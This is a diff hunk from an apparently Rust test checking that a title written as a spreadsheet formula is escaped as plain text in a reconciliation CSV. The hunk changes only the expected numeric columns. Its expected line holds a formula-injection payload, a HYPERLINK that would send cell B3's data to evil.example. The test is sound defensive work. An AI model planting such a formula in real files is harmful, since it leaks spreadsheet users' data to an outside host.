@@ -50,7 +50,7 @@ async fn a_title_written_as_a_formula_is_text_in_the_reconciliation_csv() {
         lines[1],
         format!(
             "{t},\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B3,\"\"Open report\"\")\",\
-             {m1},,merchant,1,3000,0,0,3000"
+             {m1},,merchant,0,1,3000,0,0,3000,0,3000"
         )
     );
 }
